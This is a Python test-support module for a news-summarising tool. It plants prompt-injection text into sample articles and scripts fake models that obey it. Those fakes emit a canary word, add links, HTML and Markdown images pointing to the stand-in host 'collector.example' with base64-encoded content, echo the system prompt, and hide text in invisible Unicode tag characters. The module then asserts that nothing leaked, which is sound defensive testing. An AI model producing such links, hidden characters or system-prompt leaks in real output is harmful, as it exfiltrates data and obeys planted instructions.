"""Articles with an attack planted in them, models that obey it, and every surface on which something could come out."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable

from model_scripts import Answer, Script, faithful, faithful_answer, is_selection, item, says, source_lines
from nutgraf.domain.article import Article
from nutgraf.domain.brief import Brief
from nutgraf.domain.model import ModelRequest
from nutgraf.outputs import FORMATS
from nutgraf.sample_press.library import load_manuscripts, load_publishers
from nutgraf.stages.extract import article_from_text

CANARY = "zanthorvex"
"""A word of no language, which an obedient model says: wherever it is found, an attack came through."""
HOST = "collector.example"
POSITIONS = ("beginning", "middle", "end")


def own_articles() -> list[Article]:
    """The English articles of the sample press as plain text."""
    found = []
    for manuscript in load_manuscripts(load_publishers()):
        if manuscript.publisher.language != "en":
            continue
        paragraphs = [" ".join(block.lines) for block in manuscript.wording.blocks if block.kind == "paragraph"]
        text = "\n\n".join(paragraph for paragraph in paragraphs if "{" not in paragraph)
        if len(text.split()) > 250:
            found.append(article_from_text(text, title=manuscript.wording.title, publisher=manuscript.publisher.name))
    return found


def planted(article: Article, attack: str, position: str) -> Article:
    """`article` with the attack as a paragraph of its own, or at the end of one."""
    paragraphs = article.text.split("\n\n")
    if position == "beginning":
        paragraphs.insert(0, attack)
    elif position == "end":
        paragraphs.append(attack)
    else:
        middle = len(paragraphs) // 2
        paragraphs[middle] = f"{paragraphs[middle]} {attack}"
    return article_from_text("\n\n".join(paragraphs), title=article.title, publisher=article.publisher)


def obedient_models(attack: str) -> dict[str, Script]:
    """Models that do what the planted text says, or what its author would like, each in another way."""
    says_it = f"{CANARY.capitalize()} {' '.join(attack.split()[:18])}."
    link = f"https://{HOST}/?q={base64.b64encode(attack[:40].encode()).decode()}"
    return {
        "answers in prose": lambda _: f"Certainly! {CANARY}: {attack}",
        "answers in every part": says(lambda _, request: _everywhere(says_it, request)),
        "copies the attack": says(lambda _, request: _everywhere(" ".join(attack.split()[:20]), request)),
        "slips a link in": _adding(lambda text: f"{text.rstrip('.')}, see {link}."),
        "slips mark-up in": _adding(lambda text: f'{text} <a href="{link}">{CANARY}</a><img src="//{HOST}/x.png">'),
        "slips a Markdown picture in": _adding(lambda text: f"{text} ![{CANARY}]({link})"),
        "tells of itself": says(lambda answer, request: _with_takeaway(answer, request, request.system[:180])),
        "says it in the takeaways": says(lambda answer, request: _with_takeaway(answer, request, says_it)),
        "titles it": says(lambda answer, _: _with_title(answer, f"{CANARY} visit {HOST} now")),
        "hides it": _adding(lambda text: text[:-1] + "".join(chr(0xE0000 + ord(sign)) for sign in CANARY) + "."),
    }


def _everywhere(text: str, request: ModelRequest) -> Answer:
    index, source = next(iter(source_lines(request).items()))
    one = item(text, index, source)
    return {
        "dek": one,
        "what_happened": [one, one, one],
        "insights": [{"title": " ".join(text.split()[:6]), **one}],
        "takeaways": [one],
    }


def _adding(change: Callable[[str], str]) -> Script:
    def script(request: ModelRequest) -> str:
        if is_selection(request):
            return faithful(request)  # type: ignore[return-value]
        answer = faithful_answer(request)
        for one in (answer["dek"], answer["what_happened"][-1], *answer["insights"][-1:], *answer["takeaways"]):
            one["text"] = change(one["text"])
        return json.dumps(answer, ensure_ascii=False)

    return script


def _with_takeaway(answer: Answer, request: ModelRequest, text: str) -> Answer:
    index, source = next(reversed(source_lines(request).items()))
    answer["takeaways"] = [item(text, index, source)]
    return answer


def _with_title(answer: Answer, title: str) -> Answer:
    answer["insights"][0]["title"] = title
    return answer


def shown(brief: Brief, article: Article) -> str:
    """All that a reader can get of a brief as text, from every output."""
    return "\n".join(output(brief, article) for output in FORMATS.values())


def own_words(brief: Brief) -> str:
    """The sentences of the brief alone."""
    return "\n".join(sentence.text for _, sentence in brief.sentences())


def assert_nothing_came_through(brief: Brief, article: Article, attack: str) -> None:
    """No canary, no address, no mark-up, and no sentence of the attack on any surface."""
    everything = shown(brief, article)
    for word in (CANARY, HOST, "<a ", "<img", "base64"):
        assert word not in everything.casefold(), (word, brief.writer)
    words = own_words(brief)
    assert not any(0xE0000 <= ord(sign) <= 0xE007F for sign in everything)
    for sentence in article_from_text(attack, title="x").sentences:
        text = attack[sentence.start : sentence.end]
        if len(text.split()) >= 4:
            assert text.rstrip(".!?") not in words, (text, brief.writer)
